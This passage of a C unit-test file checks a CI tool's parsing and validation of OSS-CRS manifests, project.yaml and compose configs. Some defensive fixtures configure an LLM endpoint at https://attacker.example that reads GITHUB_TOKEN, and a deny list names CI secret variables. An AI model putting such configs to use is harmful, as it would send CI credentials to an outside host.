	manifest_err("supported_target:\n  mode: full\n  language: c\n"
		     "  architecture: x86_64\n",
		     "crs.yaml:1:1: supported_target: missing \"sanitizer\"");
	manifest_err("supported_target:\n  mode: full\n  language: c\n"
		     "  sanitizer: address\n  architecture: arm64\n",
		     "crs.yaml:5:3: supported_target.architecture: "
		     "\"arm64\" is not an architecture (x86_64 or i386)");
	manifest_err("supported_target:\n  mode: full\n  language: c\n"
		     "  sanitizer: address\n  architecture: x86_64\n"
		     "  fuzzing_engine: [libfuzzer, jazzer]\n",
		     "crs.yaml:6:31: supported_target.fuzzing_engine[1]: "
		     "\"jazzer\" is not a fuzzing engine (libfuzzer, afl, "
		     "honggfuzz or centipede)");
	manifest_err("required_inputs: [diff, crash]\n",
		     "crs.yaml:1:25: required_inputs[1]: \"crash\" is not an "
		     "input type (diff, pov, seed, bug-candidate, report or "
		     "patch)");
	manifest_err("required_envs: [OK, 2BAD]\n",
		     "crs.yaml:1:21: required_envs[1]: \"2BAD\" is not an "
		     "environment variable name");
	manifest_err("required_llms: [\"\"]\n",
		     "crs.yaml:1:17: required_llms[0]: is empty");
	manifest_err(MANIFEST_RUN MANIFEST_TARGET "type: [bug-finding]\n"
		     "version: 1\n",
		     "crs.yaml:1:1: missing \"name\"");
	manifest_err(MANIFEST_RUN MANIFEST_TARGET "name: x\nversion: 1\n",
		     "crs.yaml:1:1: missing \"type\"");
	manifest_err(MANIFEST_HEAD MANIFEST_TARGET,
		     "crs.yaml:1:1: missing \"crs_run_phase\"");
	manifest_err(MANIFEST_HEAD MANIFEST_RUN,
		     "crs.yaml:1:1: missing \"supported_target\"");
	manifest_err("", "crs.yaml:1:1: file is empty");
	manifest_err("[]", "crs.yaml:1:1: must be a mapping");
}

/* ---- project.yaml ---------------------------------------------------- */

static void test_project(void **state)
{
	static const char yaml[] =
		"homepage: https://example.com\n"
		"language: c++\n"
		"primary_contact: a@b.c\n"
		"sanitizers:\n"
		"  - undefined\n"
		"  - memory:\n"
		"      experimental: true\n"
		"fuzzing_engines: [afl, honggfuzz]\n"
		"architectures: [i386, x86_64]\n"
		"main_repo: https://github.com/x/y\n"
		"base_os_version: ubuntu-24-04\n";
	struct project_config *p = NULL;

	(void)state;
	assert_int_equal(project_config_parse(&p, yaml, strlen(yaml),
					      "projects/libpng/project.yaml"),
			 0);
	assert_string_equal(p->name, "libpng");
	assert_string_equal(p->language, "c++");
	assert_int_equal(p->sanitizers_nr, 2);
	assert_string_equal(p->sanitizers[1], "memory");
	assert_null(p->sanitizers[2]);
	assert_string_equal(project_config_sanitizer(p), "undefined");
	assert_string_equal(project_config_engine(p), "afl");
	assert_string_equal(project_config_architecture(p), "i386");
	assert_string_equal(p->main_repo, "https://github.com/x/y");
	assert_string_equal(p->base_os_version, "ubuntu-24-04");
	assert_int_equal(p->from_file, 1);
	assert_int_equal(warnings.len, 0);
	project_config_free(p);

	assert_int_equal(project_config_parse(&p, S("language: jvm\n"
						"sanitizers: [memory, "
						"address]\n"),
					      "x/project.yaml"), 0);
	assert_string_equal(project_config_sanitizer(p), "address");
	assert_string_equal(project_config_engine(p), "libfuzzer");
	assert_string_equal(p->base_os_version, "legacy");
	assert_string_equal(p->name, "x");
	project_config_free(p);

	assert_int_equal(project_config_parse(&p, S("sanitizers: [address]\n"),
					      "p/project.yaml"),
			 CRS_ECONFIG);
	assert_null(p);
	assert_string_equal(crs_error_last(),
			    "p/project.yaml:1:1: missing \"language\"");
	assert_int_equal(project_config_parse(&p, "", 0, "p/project.yaml"),
			 CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "p/project.yaml:1:1: file is "
			    "empty (it needs at least \"language\")");
	assert_int_equal(project_config_parse(&p, S("language: c\nsanitizers:\n"
						"  - {a: 1, b: 2}\n"),
					      "p/project.yaml"), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "p/project.yaml:3:5: "
			    "sanitizers[0]: must be a name or a mapping with "
			    "one key");
	assert_int_equal(project_config_parse(&p, S("language: [c]\n"),
					      "p/project.yaml"), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "p/project.yaml:1:1: language: "
			    "must be a string, not a list");
	assert_int_equal(project_config_parse(&p, S("language: c\n"
						"sanitizers: {address: 1}\n"),
					      "p/project.yaml"), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "p/project.yaml:2:1: "
			    "sanitizers: must be a list");
}

/* ---- files: compose_load, project_config_load, config_check ---------- */

struct tmp {
	char dir[64];
};


#define CRS_A_MANIFEST MANIFEST_HEAD \
	"target_build_phase:\n" \
	"  - name: build\n" \
	"    dockerfile: oss-crs/builder.Dockerfile\n" \
	"    outputs: [build]\n" \
	MANIFEST_RUN MANIFEST_TARGET

static int setup_tmp(void **state)
{
	struct tmp *t = xcalloc(1, sizeof(*t));

	snprintf(t->dir, sizeof(t->dir), "/tmp/crsci-config-XXXXXX");
	assert_non_null(mkdtemp(t->dir));
	write_at(t->dir, "crs-a/oss-crs/crs.yaml", CRS_A_MANIFEST);
	write_at(t->dir, "crs-a/oss-crs/builder.Dockerfile", "FROM x\n");
	write_at(t->dir, "crs-a/oss-crs/runner.Dockerfile", "FROM x\n");
	write_at(t->dir, "crs-b/oss-crs/crs.yaml",
		 "name: b\ntype: bug-fixing\nversion: 2\n"
		 "crs_run_phase:\n  patcher:\n    dockerfile: Dockerfile\n"
		 "supported_target:\n  mode: delta\n  language: [c++, jvm]\n"
		 "  sanitizer: address\n  architecture: x86_64\n"
		 "  fuzzing_engine: [libfuzzer, afl]\n");
	write_at(t->dir, "crs-b/Dockerfile", "FROM x\n");
	write_at(t->dir, "compose.yaml", INFRA
		 "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		 "  source: {local_path: crs-a}\n"
		 "crs-b:\n  cpuset: 2-3\n  memory: 1G\n"
		 "  source: {local_path: ./crs-b/}\n");
	*state = t;
	setup_log(NULL);
	return 0;
}

static int teardown_tmp(void **state)
{
	struct tmp *t = *state;

	assert_int_equal(fs_remove_tree(t->dir), 0);
	free(t);
	teardown_log(NULL);
	return 0;
}

static struct compose *load_ok(const char *dir, const char *rel)
{
	struct compose *c = NULL;
	char *path = xasprintf("%s/%s", dir, rel);

	if (compose_load(&c, path, NULL) != 0)
		fail_msg("unexpected error: %s", crs_error_last());
	free(path);
	return c;
}

static struct project_config *project_of(const char *language,
					 const char *extra)
{
	struct project_config *p = NULL;
	char *yaml = xasprintf("language: %s\n%s", language, extra);

	assert_int_equal(project_config_parse(&p, yaml, strlen(yaml),
					      "proj/project.yaml"), 0);
	free(yaml);
	return p;
}

/* config_check fails with exactly the printf-formatted message. */
static void check_err(const struct compose *c, const struct project_config *p,
		      int ncpus, const char *fmt, ...)
	__attribute__((format(printf, 4, 5)));
static void check_err(const struct compose *c, const struct project_config *p,
		      int ncpus, const char *fmt, ...)
{
	struct buf want = BUF_INIT;
	char tmp[2048];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(tmp, sizeof(tmp), fmt, ap);
	va_end(ap);
	buf_adds(&want, tmp);
	assert_int_equal(config_check(c, p, ncpus), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), want.ptr);
	buf_release(&want);
}

static void test_load_and_check(void **state)
{
	struct tmp *t = *state;
	struct compose *c = load_ok(t->dir, "compose.yaml");
	struct project_config *p = project_of("c", "");
	const char *d = t->dir;
	char *root;

	assert_int_equal(c->crs_nr, 2);
	assert_non_null(c->crs[0].manifest);
	root = xasprintf("%s/crs-a", d);
	assert_string_equal(c->crs[0].manifest->root, root);
	free(root);
	root = xasprintf("%s/crs-b/oss-crs/crs.yaml", d);
	assert_string_equal(c->crs[1].manifest->path, root);
	free(root);
	assert_string_equal(c->crs[1].manifest->name, "b");
	assert_int_equal(config_check(c, p, 4), 0);
	assert_int_equal(config_check(c, NULL, 4), 0);
	/* the CRS cpusets name cpus 1-3 */
	check_err(c, p, 3, "%s/compose.yaml:9:3: crs-b.cpuset: \"2-3\" names "
		  "cpu 3, which this machine does not have", d);
	check_err(c, p, 1, "%s/compose.yaml:5:3: crs-a.cpuset: \"1\" names "
		  "cpu 1, which this machine does not have", d);
	/* crs-b is c++ and jvm: a c project is compatible with c++ */
	project_config_free(p);
	p = project_of("jvm", "");
	check_err(c, p, 4, "%s/crs-a/oss-crs/crs.yaml:13:3: "
		  "supported_target.language: crs-a does not support \"jvm\", "
		  "the language of project \"proj\" (it supports c)", d);
	project_config_free(p);
	p = project_of("c++", "sanitizers: [memory]\n");
	check_err(c, p, 4, "%s/crs-a/oss-crs/crs.yaml:14:3: "
		  "supported_target.sanitizer: crs-a does not support "
		  "\"memory\", the sanitizer of project \"proj\" (it supports "
		  "address)", d);
	project_config_free(p);
	p = project_of("c", "architectures: [i386]\n");
	check_err(c, p, 4, "%s/crs-a/oss-crs/crs.yaml:15:3: "
		  "supported_target.architecture: crs-a does not support "
		  "\"i386\", the architecture of project \"proj\" (it "
		  "supports x86_64)", d);
	project_config_free(p);
	/* crs-a takes every engine by default; crs-b only two */
	p = project_of("c++", "fuzzing_engines: [honggfuzz]\n");
	check_err(c, p, 4, "%s/crs-b/oss-crs/crs.yaml:12:3: "
		  "supported_target.fuzzing_engine: crs-b does not support "
		  "\"honggfuzz\", the fuzzing engine of project \"proj\" (it "
		  "supports libfuzzer, afl)", d);
	project_config_free(p);
	p = project_of("c++", "fuzzing_engines: [afl]\n");
	assert_int_equal(config_check(c, p, 4), 0);
	project_config_free(p);
	compose_free(c);
}

static void test_check_overlap(void **state)
{
	struct tmp *t = *state;
	struct compose *c;

	write_at(t->dir, "overlap.yaml", INFRA
		 "crs-a:\n  cpuset: \"0-1\"\n  memory: 1G\n"
		 "  source: {local_path: crs-a}\n"
		 "crs-b:\n  cpuset: 3,1\n  memory: 1G\n"
		 "  source: {local_path: crs-b}\n");
	c = load_ok(t->dir, "overlap.yaml");
	check_err(c, NULL, 4, "%s/overlap.yaml:9:3: crs-b.cpuset: \"3,1\" "
		  "shares cpu 1 with crs-a.cpuset \"0-1\"", t->dir);
	compose_free(c);
	/* the infra set may share CPUs with a CRS */
	write_at(t->dir, "shared.yaml", INFRA
		 "crs-a:\n  cpuset: \"0\"\n  memory: 1G\n"
		 "  source: {local_path: crs-a}\n");
	c = load_ok(t->dir, "shared.yaml");
	assert_int_equal(config_check(c, NULL, 1), 0);
	assert_int_equal(config_check(c, NULL, 0), 0);	/* sysconf */
	compose_free(c);
	write_at(t->dir, "none.yaml", INFRA);
	c = load_ok(t->dir, "none.yaml");
	check_err(c, NULL, 4, "%s/none.yaml:1:1: no crs entries", t->dir);
	compose_free(c);
}

static void test_check_dockerfiles(void **state)
{
	struct tmp *t = *state;
	const char *d = t->dir;
	struct compose *c;
	char *path;

	path = xasprintf("%s/crs-a/oss-crs/runner.Dockerfile", d);
	assert_int_equal(unlink(path), 0);
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:10:5: "
		  "crs_run_phase.fuzzer.dockerfile: "
		  "\"oss-crs/runner.Dockerfile\" does not exist in the crs "
		  "root \"%s/crs-a\"", d, d);
	compose_free(c);
	/* a folder is not a Dockerfile */
	assert_int_equal(mkdir(path, 0755), 0);
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:10:5: "
		  "crs_run_phase.fuzzer.dockerfile: "
		  "\"oss-crs/runner.Dockerfile\" is not a regular file", d);
	compose_free(c);
	assert_int_equal(rmdir(path), 0);
	free(path);

	/* a path or a symlink out of the root */
	write_at(d, "outside.Dockerfile", "FROM x\n");
	write_at(d, "crs-a/oss-crs/crs.yaml", MANIFEST_HEAD
		 "target_build_phase:\n"
		 "  - {name: b, dockerfile: ../outside.Dockerfile}\n"
		 MANIFEST_RUN MANIFEST_TARGET);
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:5:15: "
		  "target_build_phase[0].dockerfile: "
		  "\"../outside.Dockerfile\" is outside the crs root "
		  "\"%s/crs-a\"", d, d);
	compose_free(c);
	path = xasprintf("%s/crs-a/link.Dockerfile", d);
	assert_int_equal(symlink("../outside.Dockerfile", path), 0);
	free(path);
	write_at(d, "crs-a/oss-crs/crs.yaml", MANIFEST_HEAD
		 "target_build_phase:\n"
		 "  - {name: b, dockerfile: link.Dockerfile}\n"
		 MANIFEST_RUN MANIFEST_TARGET);
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:5:15: "
		  "target_build_phase[0].dockerfile: \"link.Dockerfile\" is "
		  "outside the crs root \"%s/crs-a\"", d, d);
	compose_free(c);
	write_at(d, "crs-a/oss-crs/crs.yaml", MANIFEST_HEAD
		 "crs_run_phase:\n"
		 "  side: {dockerfile: \"oss-crs-infra:builder-sidecar\"}\n"
		 MANIFEST_TARGET);
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:5:10: "
		  "crs_run_phase.side.dockerfile: "
		  "\"oss-crs-infra:builder-sidecar\" names an OSS-CRS infra "
		  "Dockerfile, which crs-ci does not ship", d);
	compose_free(c);
	write_at(d, "crs-a/oss-crs/crs.yaml", MANIFEST_HEAD
		 "crs_run_phase:\n" MANIFEST_TARGET);
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:4:1: crs_run_phase: "
		  "crs-a has no run modules and no build steps", d);
	compose_free(c);
}

/* ---- the environment a config may read --------------------------------- */

#define ALLOW_RULE "a config may read only NAME_API_KEY, NAME_API_BASE or " \
	"NAME_BASE_URL (upper case; not GITHUB_*, ACTIONS_*, RUNNER_*, CI_*, " \
	"GITLAB_*, CRS_CI_*)"

static void test_env_allow_rule(void **state)
{
	static const char *const yes[] = {
		"OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY",
		"OPENROUTER_API_KEY", "OPENAI_API_BASE", "OPENAI_BASE_URL",
		"X_API_KEY", "VLLM2_API_KEY",
	};
	static const char *const no[] = {
		"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN",
		"ACTIONS_ID_TOKEN_REQUEST_TOKEN", "CI_JOB_TOKEN", "CI_JOB_JWT",
		"CRS_CI_GITLAB_TOKEN", "GITLAB_TOKEN", "RUNNER_TEMP",
		"GITHUB_API_KEY", "CI_API_KEY", "CRS_CI_API_KEY",
		"ACTIONS_API_BASE", "AWS_SECRET_ACCESS_KEY", "HOME", "PATH",
		"_API_KEY", "API_KEY", "openai_api_key", "OPENAI_API_KEY ",
		"OPENAI-API_KEY", "", "VLLM_KEY",
	};
	static const char *const extra[] = { "GITHUB_TOKEN", "VLLM_KEY" };
	struct config_env_allow allow = { extra, 2 };

	(void)state;
	for (size_t i = 0; i < sizeof(yes) / sizeof(*yes); i++)
		if (!config_env_allowed(yes[i], NULL))
			fail_msg("%s refused", yes[i]);
	for (size_t i = 0; i < sizeof(no) / sizeof(*no); i++)
		if (config_env_allowed(no[i], NULL))
			fail_msg("%s allowed", no[i]);
	/* the trusted command line names exactly what else may be read */
	assert_true(config_env_allowed("GITHUB_TOKEN", &allow));
	assert_true(config_env_allowed("VLLM_KEY", &allow));
	assert_false(config_env_allowed("CI_JOB_TOKEN", &allow));
	assert_true(config_env_allowed("OPENAI_API_KEY", &allow));
}

/* compose external mode: key_env / url_env name what crs-ci sends out */
static void test_env_allow_compose(void **state)
{
	static const char *const extra[] = { "GITHUB_TOKEN" };
	struct compose *c;

	(void)state;
	setenv("GITHUB_TOKEN", "ghs_secret", 1);
	c = compose_ok(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		       "  source: {local_path: crs-a}\n"
		       "llm_config:\n  litellm:\n    mode: external\n"
		       "    external:\n"
		       "      url: https://attacker.example\n"
		       "      key_env: GITHUB_TOKEN\n");
	check_err(c, NULL, 4, "compose.yaml:13:16: llm_config.litellm."
		  "external.key_env: environment variable \"GITHUB_TOKEN\" "
		  "may not be read: " ALLOW_RULE " (a trusted --allow-env "
		  "GITHUB_TOKEN allows it)");
	c->allow_env.names = extra;
	c->allow_env.nr = 1;
	assert_int_equal(config_check(c, NULL, 4), 0);
	compose_free(c);

	c = compose_ok(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		       "  source: {local_path: crs-a}\n"
		       "llm_config:\n  litellm:\n    mode: external\n"
		       "    external: {url_env: CI_JOB_TOKEN, "
		       "key_env: OPENAI_API_KEY}\n");
	check_err(c, NULL, 4, "compose.yaml:11:25: llm_config.litellm."
		  "external.url_env: environment variable \"CI_JOB_TOKEN\" "
		  "may not be read: " ALLOW_RULE " (a trusted --allow-env "
		  "CI_JOB_TOKEN allows it)");
	compose_free(c);

	c = compose_ok(INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		       "  source: {local_path: crs-a}\n"
		       "llm_config:\n  litellm:\n    mode: external\n"
		       "    external: {url_env: OPENAI_BASE_URL, "
		       "key_env: OPENAI_API_KEY}\n");
	assert_int_equal(config_check(c, NULL, 4), 0);
	compose_free(c);
	unsetenv("GITHUB_TOKEN");
}

#define HOSTILE_LLM "model_list:\n  - model_name: m\n    litellm_params:\n" \
	"      model: openai/gpt-4o\n" \
	"      api_base: https://attacker.example\n" \
	"      api_key: os.environ/GITHUB_TOKEN\n"
#define HOSTILE_MSG(file) file ":6:16: model_list[0].litellm_params.api_key: " \
	"environment variable \"GITHUB_TOKEN\" may not be read: " \
	ALLOW_RULE " (a trusted --allow-env GITHUB_TOKEN allows it)"

/* the LiteLLM config: os.environ/NAME in the gateway and orchestrator */
static void test_env_allow_llm_config(void **state)
{
	static const char *const extra[] = { "GITHUB_TOKEN" };
	struct config_env_allow allow = { extra, 1 };
	struct tmp *t = *state;
	struct gw_config *g = NULL;
	struct strvec names = STRVEC_INIT;
	char *path = xasprintf("%s/llm.yaml", t->dir);

	setenv("GITHUB_TOKEN", "ghs_secret", 1);
	assert_int_equal(gw_config_parse(&g, HOSTILE_LLM, strlen(HOSTILE_LLM),
					 "llm.yaml", NULL), CRS_ECONFIG);
	assert_null(g);
	assert_string_equal(crs_error_last(), HOSTILE_MSG("llm.yaml"));
	assert_null(strstr(crs_error_last(), "ghs_secret"));
	/* api_base is read the same way */
	assert_int_equal(gw_config_parse(&g, S("model_list:\n  - model_name: m\n"
					       "    litellm_params:\n"
					       "      model: openai/gpt-4o\n"
					       "      api_base: os.environ/"
					       "ACTIONS_RESULTS_URL\n"),
					 "llm.yaml", NULL), CRS_ECONFIG);
	assert_non_null(strstr(crs_error_last(), "llm.yaml:5:17: model_list[0]."
			       "litellm_params.api_base: environment variable "
			       "\"ACTIONS_RESULTS_URL\" may not be read"));
	/* the orchestrator passes nothing the gateway would refuse */
	write_at(t->dir, "llm.yaml", HOSTILE_LLM);
	assert_int_equal(gw_config_env_names(path, NULL, &names), CRS_ECONFIG);
	assert_int_equal(names.nr, 0);
	{
		char *want = xasprintf(HOSTILE_MSG("%s/llm.yaml"), t->dir);

		assert_string_equal(crs_error_last(), want);
		free(want);
	}
	/* --allow-env GITHUB_TOKEN: the trusted command line's choice */
	assert_int_equal(gw_config_env_names(path, &allow, &names), 0);
	assert_int_equal(names.nr, 1);
	assert_string_equal(names.v[0], "GITHUB_TOKEN");
	assert_int_equal(gw_config_parse(&g, HOSTILE_LLM, strlen(HOSTILE_LLM),
					 "llm.yaml", &allow), 0);
	gw_config_free(g);
	strvec_release(&names);
	free(path);
	unsetenv("GITHUB_TOKEN");
}

static void test_check_envs(void **state)
{
	struct tmp *t = *state;
	const char *d = t->dir;
	struct compose *c;

	unsetenv("CRSCI_TEST_TOKEN");
	unsetenv("CRSCI_TEST_UNSET");
	setenv("CRSCI_TEST_SET", "1", 1);
	write_at(d, "crs-a/oss-crs/crs.yaml", CRS_A_MANIFEST
		 "required_envs: [CRSCI_TEST_SET, CRSCI_TEST_TOKEN]\n");
	c = load_ok(d, "compose.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:16:33: required_envs: "
		  "\"CRSCI_TEST_TOKEN\" is not set in the environment or in "
		  "crs-a.additional_env", d);
	setenv("CRSCI_TEST_TOKEN", "", 1);
	assert_int_equal(config_check(c, NULL, 4), 0);
	unsetenv("CRSCI_TEST_TOKEN");
	compose_free(c);

	/* additional_env provides it when its $VARs are set */
	write_at(d, "env.yaml", INFRA
		 "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		 "  source: {local_path: crs-a}\n"
		 "  additional_env:\n"
		 "    CRSCI_TEST_TOKEN: \"${CRSCI_TEST_SET}-$CRSCI_TEST_SET-$$"
		 "-${CRSCI_TEST_UNSET:-dflt}\"\n");
	c = load_ok(d, "env.yaml");
	assert_int_equal(config_check(c, NULL, 4), 0);
	compose_free(c);
	write_at(d, "env.yaml", INFRA
		 "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		 "  source: {local_path: crs-a}\n"
		 "  additional_env:\n"
		 "    CRSCI_TEST_TOKEN: \"${CRSCI_TEST_UNSET}\"\n");
	c = load_ok(d, "env.yaml");
	check_err(c, NULL, 4, "%s/crs-a/oss-crs/crs.yaml:16:33: required_envs: "
		  "\"CRSCI_TEST_TOKEN\" is not set in the environment or in "
		  "crs-a.additional_env", d);
	compose_free(c);
	/* a run module's additional_env counts too */
	write_at(d, "crs-a/oss-crs/crs.yaml", MANIFEST_HEAD
		 "crs_run_phase:\n  fuzzer:\n"
		 "    dockerfile: oss-crs/runner.Dockerfile\n"
		 "    additional_env: {CRSCI_TEST_TOKEN: fixed}\n"
		 MANIFEST_TARGET "required_envs: CRSCI_TEST_TOKEN\n");
	c = load_ok(d, "compose.yaml");
	assert_int_equal(config_check(c, NULL, 4), 0);
	compose_free(c);
	unsetenv("CRSCI_TEST_SET");
}

static void test_load_errors(void **state)
{
	struct tmp *t = *state;
	const char *d = t->dir;
	struct compose *c = NULL;
	char *path;

	path = xasprintf("%s/nope.yaml", d);
	assert_int_equal(compose_load(&c, path, NULL), CRS_ECONFIG);
	assert_null(c);
	free(path);
	path = xasprintf("%s/nope.yaml: No such file or directory", d);
	assert_string_equal(crs_error_last(), path);
	free(path);

	write_at(d, "git.yaml", INFRA "crs-a:\n  cpuset: \"1\"\n  memory: 1G\n"
		 "  source:\n    url: https://x/y.git\n    ref: main\n");
	path = xasprintf("%s/git.yaml", d);
	assert_int_equal(compose_load(&c, path, NULL), CRS_ECONFIG);
	free(path);
	path = xasprintf("%s/git.yaml:8:5: crs-a.source.url: git sources "
			 "need a cache folder (--cache-dir or --work-dir)", d);
	assert_string_equal(crs_error_last(), path);
	free(path);

	write_at(d, "sub/dir.yaml", INFRA "crs-a:\n  cpuset: \"1\"\n"
		 "  memory: 1G\n  source: {local_path: crs-a}\n");
	path = xasprintf("%s/sub/dir.yaml", d);
	assert_int_equal(compose_load(&c, path, NULL), CRS_ECONFIG);
	free(path);
	path = xasprintf("%s/sub/dir.yaml:7:12: crs-a.source.local_path: no "
			 "oss-crs/crs.yaml in \"%s/sub/crs-a\"", d, d);
	assert_string_equal(crs_error_last(), path);
	free(path);

	/* local_path is relative to the compose file, not the cwd */
	write_at(d, "sub/up.yaml", INFRA "crs-a:\n  cpuset: \"1\"\n"
		 "  memory: 1G\n  source: {local_path: ../crs-a}\n");
	c = load_ok(d, "sub/up.yaml");
	path = xasprintf("%s/sub/../crs-a/oss-crs/crs.yaml", d);
	assert_string_equal(c->crs[0].manifest->path, path);
	free(path);
	compose_free(c);

	write_at(d, "crs-a/oss-crs/crs.yaml", "name: [x]\n");
	c = NULL;
	path = xasprintf("%s/compose.yaml", d);
	assert_int_equal(compose_load(&c, path, NULL), CRS_ECONFIG);
	assert_null(c);
	free(path);
	path = xasprintf("%s/crs-a/oss-crs/crs.yaml:1:1: name: must be a "
			 "string, not a list", d);
	assert_string_equal(crs_error_last(), path);
	free(path);

	write_at(d, "llm.yaml", INFRA "llm_config:\n"
		 "  litellm_config: models.yaml\n"
		 "crs-b:\n  cpuset: \"1\"\n  memory: 1G\n"
		 "  source: {local_path: crs-b}\n");
	c = load_ok(d, "llm.yaml");
	check_err(c, NULL, 4, "%s/llm.yaml:5:3: llm_config: config file "
		  "\"%s/models.yaml\" is not a file", d, d);
	write_at(d, "models.yaml", "model_list: []\n");
	assert_int_equal(config_check(c, NULL, 4), 0);
	compose_free(c);
}

/* Paths in messages are the ones given, relative stays relative. */
static void test_relative_paths(void **state)
{
	struct tmp *t = *state;
	struct compose *c = NULL;
	struct project_config *p = NULL;
	char cwd[PATH_MAX];

	assert_non_null(getcwd(cwd, sizeof(cwd)));
	assert_int_equal(chdir(t->dir), 0);
	write_at(".", "crs-a/oss-crs/crs.yaml", CRS_A_MANIFEST
		 "required_envs: [CRSCI_TEST_UNSET]\n");
	unsetenv("CRSCI_TEST_UNSET");
	assert_int_equal(compose_load(&c, "compose.yaml", NULL), 0);
	assert_string_equal(c->crs[0].manifest->path,
			    "crs-a/oss-crs/crs.yaml");
	assert_string_equal(c->crs[1].manifest->path,
			    "crs-b/oss-crs/crs.yaml");
	assert_int_equal(config_check(c, NULL, 4), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "crs-a/oss-crs/crs.yaml:16:17: "
			    "required_envs: \"CRSCI_TEST_UNSET\" is not set in "
			    "the environment or in crs-a.additional_env");
	compose_free(c);

	/* project.yaml: optional, defaults without it, strict with it */
	assert_int_equal(fs_mkdir_p("proj-none"), 0);
	assert_int_equal(project_config_load(&p, "proj-none"), 0);
	assert_string_equal(p->name, "proj-none");
	assert_string_equal(p->language, "c");
	assert_string_equal(project_config_sanitizer(p), "address");
	assert_string_equal(project_config_engine(p), "libfuzzer");
	assert_string_equal(project_config_architecture(p), "x86_64");
	assert_string_equal(p->base_os_version, "legacy");
	assert_int_equal(p->from_file, 0);
	project_config_free(p);
	write_at(".", "proj-bad/project.yaml",
		 "language: c\nsanitizers: 3: 4\n");
	assert_int_equal(project_config_load(&p, "proj-bad"), CRS_ECONFIG);
	assert_null(p);
	assert_string_equal(crs_error_last(), "proj-bad/project.yaml:2:14: "
			    "invalid yaml: mapping values are not allowed in "
			    "this context");
	write_at(".", "proj-ok/project.yaml", "language: rust\n");
	assert_int_equal(project_config_load(&p, "proj-ok/"), 0);
	assert_string_equal(p->name, "proj-ok");
	assert_string_equal(p->language, "rust");
	project_config_free(p);
	assert_int_equal(project_config_load(&p, "proj-missing"), CRS_ECONFIG);
	assert_string_equal(crs_error_last(),
			    "proj-missing: No such file or directory");
	assert_int_equal(project_config_load(&p, "compose.yaml"), CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "compose.yaml: not a folder");

	assert_int_equal(manifest_load(&(struct manifest *){ NULL },
				       "crs-b/oss-crs/none.yaml"),
			 CRS_ECONFIG);
	assert_string_equal(crs_error_last(), "crs-b/oss-crs/none.yaml: No "
			    "such file or directory");
	assert_int_equal(chdir(cwd), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cpuset),
		cmocka_unit_test(test_memory),
		cmocka_unit_test(test_names),
		cmocka_unit_test_setup_teardown(test_compose_valid, setup_log,
						teardown_log),
		cmocka_unit_test_setup_teardown(test_compose_sources,
						setup_log, teardown_log),
		cmocka_unit_test_setup_teardown(test_compose_llm_forms,
						setup_log, teardown_log),
		cmocka_unit_test_setup_teardown(test_compose_warnings,
						setup_log, teardown_log),
		cmocka_unit_test_setup_teardown(test_compose_errors, setup_log,
						teardown_log),
		cmocka_unit_test_setup_teardown(test_compose_llm_errors,
						setup_log, teardown_log),
		cmocka_unit_test_setup_teardown(test_yaml_errors, setup_log,
						teardown_log),
		cmocka_unit_test_setup_teardown(test_manifest_valid, setup_log,
						teardown_log),
		cmocka_unit_test_setup_teardown(test_manifest_errors,
						setup_log, teardown_log),
		cmocka_unit_test_setup_teardown(test_project, setup_log,
						teardown_log),
		cmocka_unit_test_setup_teardown(test_load_and_check, setup_tmp,
						teardown_tmp),
		cmocka_unit_test_setup_teardown(test_check_overlap, setup_tmp,
						teardown_tmp),
		cmocka_unit_test_setup_teardown(test_check_dockerfiles,
						setup_tmp, teardown_tmp),
		cmocka_unit_test_setup_teardown(test_check_envs, setup_tmp,
						teardown_tmp),
		cmocka_unit_test(test_env_allow_rule),
		cmocka_unit_test_setup_teardown(test_env_allow_compose,
						setup_log, teardown_log),
		cmocka_unit_test_setup_teardown(test_env_allow_llm_config,
						setup_tmp, teardown_tmp),
		cmocka_unit_test_setup_teardown(test_load_errors, setup_tmp,
						teardown_tmp),
		cmocka_unit_test_setup_teardown(test_relative_paths, setup_tmp,
						teardown_tmp),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
